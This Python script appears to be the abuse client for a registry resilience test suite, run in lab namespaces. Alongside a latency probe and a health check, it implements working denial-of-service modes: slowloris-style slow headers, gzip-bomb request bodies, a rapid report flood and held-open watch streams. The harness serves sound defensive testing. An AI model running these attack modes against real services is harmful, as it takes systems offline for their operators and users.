"""Clients for tests/test_registry_abuse.py, run inside lab namespaces: `python abuse_client.py
MODE HOST PORT [ARGS]`. Standard library only, so that it runs against any registry.

- `probe HOST PORT COUNT`: the legitimate node. COUNT `GET /v1/peers`, one after the other,
  each on a new connection (so that accepting is measured too), 3 s timeout each; prints
  {"latencies": [s, ...], "errors": [...]}, a failed request counting as its time taken;
  stops after 5 failures.
- `health HOST PORT 0`: prints the registry's `/healthz` answer, or {} if there is none.
- `slow HOST PORT N`: N connections, each sending a request head one header line per second,
  never finishing it; a connection the registry refuses or closes is opened again 4-6 s
  later (as slowloris does, in rounds; a tighter loop is a connection flood, which costs
  the tunnel and the kernel, not the registry's file descriptors).
- `gzip HOST PORT WORKERS`: requests with `Content-Encoding: gzip` (`PUT /v1/self`, `POST
  /v1/punch`, `GET /v1/peers`, `GET /healthz`), alternating a body that is not gzip and a
  gzip bomb (16 MiB of zeros in 16 KiB), one per connection, WORKERS at once.
- `report HOST PORT WORKERS`: `PUT /v1/self`, each report different, as fast as the answers
  come, on WORKERS keep-alive connections.
- `streams HOST PORT N`: N `GET /v1/watch` streams held open; a stream the registry ends is
  opened again 4-6 s later.

Every abuser prints "ready" once its first round is under way, runs until SIGTERM, then prints
its counts as one JSON line: what the registry answered (`status` -> count), how often it closed
the connection (`closed`), connection errors (`error`).
"""

from __future__ import annotations

import asyncio
import collections
import gzip
import json
import random
import signal
import sys
import time

TIMEOUT_S = 3.0
MAX_ERRORS = 5  # a probe stops after this many failed requests
counts: collections.Counter[str] = collections.Counter()


async def read_head(reader: asyncio.StreamReader) -> int:
    line = await reader.readline()
    if not line:
        raise ConnectionResetError("closed before answering")
    status = int(line.split()[1])
    while (await reader.readline()) not in (b"\r\n", b""):
        pass
    return status


async def exchange(host: str, port: int, request: bytes) -> tuple[int, bytes]:
    """One request on a new connection (`Connection: close`): the status and the body."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(request)
        status = await read_head(reader)
        return status, await reader.read()
    finally:
        writer.close()


async def probe(host: str, port: int, count: int) -> None:
    request = (f"GET /v1/peers HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").encode()
    latencies: list[float] = []
    errors: list[str] = []
    for _ in range(count):
        started = time.monotonic()
        try:
            async with asyncio.timeout(TIMEOUT_S):
                status, body = await exchange(host, port, request)
            if status != 200 or "peers" not in json.loads(body):
                errors.append(f"status {status}")
        except (OSError, TimeoutError, ValueError) as error:
            errors.append(type(error).__name__)
        latencies.append(time.monotonic() - started)
        if len(errors) >= MAX_ERRORS:
            break  # the registry is down for us: no need to wait out every timeout
        await asyncio.sleep(0.05)  # 20 a second at most: a busy node, within the pacing
    print(json.dumps({"latencies": latencies, "errors": errors}), flush=True)


async def health(host: str, port: int) -> None:
    request = f"GET /healthz HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    try:
        async with asyncio.timeout(TIMEOUT_S):
            status, body = await exchange(host, port, request)
        print(body.decode() if status == 200 else "{}")
    except (OSError, TimeoutError, ValueError):
        print("{}")


async def connect(host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection, however many tries it takes; a refused one is counted and retried after
    4-6 s, as a patient attacker would."""
    while True:
        try:
            return await asyncio.open_connection(host, port)
        except OSError as error:
            counts[f"error {error.errno}"] += 1
            await asyncio.sleep(random.uniform(4.0, 6.0))


async def slow_one(host: str, port: int) -> None:
    while True:
        reader, writer = await connect(host, port)
        counts["connected"] += 1
        try:
            writer.write(f"GET /v1/peers HTTP/1.1\r\nHost: {host}\r\n".encode())
            while True:
                await writer.drain()
                try:
                    async with asyncio.timeout(1.0):
                        if not await reader.read(4096):
                            break  # the registry closed it
                except TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
        except OSError:
            pass
        counts["closed"] += 1
        writer.close()
        await asyncio.sleep(random.uniform(4.0, 6.0))


async def gzip_one(host: str, port: int, worker: int) -> None:
    bomb = gzip.compress(bytes(16 << 20), 9)
    bodies = [b"this is not gzip" * 16, bomb]
    targets = ["PUT /v1/self", "POST /v1/punch/" + "ab" * 32, "GET /v1/peers", "GET /healthz"]
    n = worker
    while True:
        body, target = bodies[n % 2], targets[n // 2 % len(targets)]
        n += 1
        head = (f"{target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
                f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\n"
                "Connection: close\r\n\r\n").encode()
        try:
            async with asyncio.timeout(TIMEOUT_S):
                status, _ = await exchange(host, port, head + body)
            counts[str(status)] += 1
        except (OSError, TimeoutError, ValueError):
            # The registry may answer before reading a body, and close: the rest of ours
            # then meets a reset. Or it refused the connection.
            counts["closed"] += 1
            await asyncio.sleep(0.02)


async def report_one(host: str, port: int, worker: int) -> None:
    n = worker * 10_000
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["error"] += 1
            await asyncio.sleep(0.05)
            continue
        try:
            while True:
                n += 1
                body = json.dumps({"listen_port": 1 + n % 65535, "local_addresses": [],
                                   "version": "flood"}).encode()
                writer.write((f"PUT /v1/self HTTP/1.1\r\nHost: {host}\r\n"
                              "Content-Type: application/json\r\n"
                              f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
                async with asyncio.timeout(TIMEOUT_S):
                    status = await read_head(reader)
                    # Every answer of the registry has a Content-Length; skip the body.
                    await reader.read(65536)
                counts[str(status)] += 1
        except (OSError, TimeoutError, ValueError):
            counts["closed"] += 1
        writer.close()


async def stream_one(host: str, port: int) -> None:
    while True:
        reader, writer = await connect(host, port)
        try:
            writer.write(f"GET /v1/watch HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            async with asyncio.timeout(TIMEOUT_S):
                counts[str(await read_head(reader))] += 1
            # Hold it (heartbeats are a few bytes a second) until the registry ends it.
            while await reader.read(65536):
                pass
        except (OSError, TimeoutError, ValueError):
            pass
        counts["closed"] += 1
        writer.close()
        await asyncio.sleep(random.uniform(4.0, 6.0))


async def abuse(mode: str, host: str, port: int, n: int) -> None:
    if mode == "slow":
        tasks = [asyncio.create_task(slow_one(host, port)) for _ in range(n)]
    elif mode == "gzip":
        tasks = [asyncio.create_task(gzip_one(host, port, i)) for i in range(n)]
    elif mode == "report":
        tasks = [asyncio.create_task(report_one(host, port, i)) for i in range(n)]
    elif mode == "streams":
        tasks = [asyncio.create_task(stream_one(host, port)) for _ in range(n)]
    else:
        raise SystemExit(f"unknown mode {mode!r}")
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    await asyncio.sleep(1.0)  # the first round of connections is on its way
    print("ready", flush=True)
    await stop.wait()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(dict(counts)), flush=True)


def main() -> None:
    mode, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    if mode == "probe":
        asyncio.run(probe(host, port, n))
    elif mode == "health":
        asyncio.run(health(host, port))
    else:
        asyncio.run(abuse(mode, host, port, n))


if __name__ == "__main__":
    main()
